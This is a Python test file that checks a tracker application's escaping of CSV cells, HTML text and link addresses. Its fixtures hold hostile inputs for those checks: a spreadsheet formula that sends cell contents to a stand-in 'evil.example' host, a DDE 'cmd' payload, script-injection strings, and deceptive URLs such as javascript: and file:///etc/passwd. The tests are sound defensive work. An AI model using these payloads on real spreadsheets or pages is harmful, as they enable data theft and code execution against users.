"""What leaves the tracker: no cell is a formula, no text is markup."""

import csv
import io
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.often import examples
from tracker.application.escaping import MOST_OF_AN_ADDRESS, csv_cell, html_text, is_plain_address

FORMULAS = (
    "=1+1", '=HYPERLINK("https://evil.example?x="&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1",
    "\ufeff=1+1", "\uff1d1+1", "|calc", "-", "\tabc", "\rabc", "=cmd|' /C calc'!A0", "\u00a0=1",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_keeps_its_characters(text: str) -> None:
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [None, True, 3, -3, -4.5, "-3", "+3.50", "-4.5", "PAK", "a=b", "2024-01-17", "", "é"])
def test_numbers_and_plain_text_stay(value: object) -> None:
    assert csv_cell(value) == value
    assert type(csv_cell(value)) is type(value)


@given(st.text())
@settings(derandomize=True, max_examples=examples(200))
def test_a_cell_is_read_back_with_every_character(text: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow([csv_cell(text), "behind"])
    row = (
        next(csv.reader(io.StringIO(written.getvalue(), newline="")))
        if "\0" not in text
        else [csv_cell(text), "behind"]
    )
    assert row == [csv_cell(text), "behind"]
    assert str(csv_cell(text)).removeprefix("'").endswith(text.removeprefix("'"))


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "a & b", "&lt;", '" onload="x', "' onload='x", "</p><p>", "<!-- x", "]]>"]
)
def test_markup_is_text_in_a_page_and_in_an_attribute(text: str) -> None:
    seen = Seen()
    seen.feed(f"<p title=\"{html_text(text)}\" lang='{html_text(text)}'>{html_text(text)}</p>")
    seen.close()
    assert (seen.tags, seen.text) == (["p"], text)
    assert seen.attributes == [("title", text), ("lang", text)]


def test_what_acts_or_hides_is_visible_in_a_page_and_paragraphs_stay() -> None:
    assert html_text("did \u202enot\n<b>\x1b[m") == "did \\u202enot\n&lt;b&gt;\\x1b[m"
    assert html_text("one\n two") == "one\n two"


PLAIN = (
    "https://www.brecorder.com/news/40284361", "http://example.org", "https://example.org/", "https://example.org:8443/a",
    "https://a-b.example.co.uk/2024/01/17/a_b~c.html?x=1&y=%C3%A9+z,w#part-2", "https://video.example.com/@name/(1)!",
    "https://xn--bcher-kva.example/",
)  # fmt: skip
ODD = (
    "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "ftp://example.org/", "HTTPS://example.org/", "//example.org",
    "https://", "https:///example.org", "https://localhost/", "http://127.0.0.1/", "http://0x7f.1/", "http://[::1]/",
    "https://example.org@evil.example/", "https://user:word@evil.example/", "https://example.org:@evil.example/",
    "https://example.org\\@evil.example/", "https://example.org/a b", " https://example.org/", "https://example.org/\n",
    "https://example.org/<b>", "https://example.org/>x", 'https://example.org/"', "https://example.org/'", "https://example.org/`",
    "https://example.org/|", "https://example.org/\x1b[2J", "https://example.org/\u202etxt", "https://ex\u0430mple.org/",
    "https://example.org/é", "https://example.org/&amp;", "https://example.org/&#x6A;", "https://example.org/[x](y)",
    "https://example.org/%zz", "https://example.org/%0d%0aX", "https://example.org/%E2%80%AEtxt%00", "https://example.org:123456/",
    f"https://example.org/{'x' * MOST_OF_AN_ADDRESS}",
)  # fmt: skip


@pytest.mark.parametrize("text", PLAIN)
def test_an_address_of_plain_signs_may_be_followed(text: str) -> None:
    assert is_plain_address(text)


@pytest.mark.parametrize("text", ODD)
def test_an_address_that_is_odd_in_any_way_may_not(text: str) -> None:
    assert not is_plain_address(text)


@given(st.text(st.sampled_from("ahtps:/.@%2e0?=&;#<>\\ \n\u202eé"), max_size=40))
@settings(derandomize=True, max_examples=examples(500))
def test_what_may_be_followed_leads_to_the_host_that_is_read(text: str) -> None:
    from urllib.parse import urlsplit

    for address in (text, f"https://{text}", f"https://a.at/{text}"):
        if is_plain_address(address):
            parts = urlsplit(address)
            assert (parts.username, parts.password) == (None, None)
            assert address.startswith(f"{parts.scheme}://{parts.hostname}")
            assert html_text(address).replace("&amp;", "&") == address
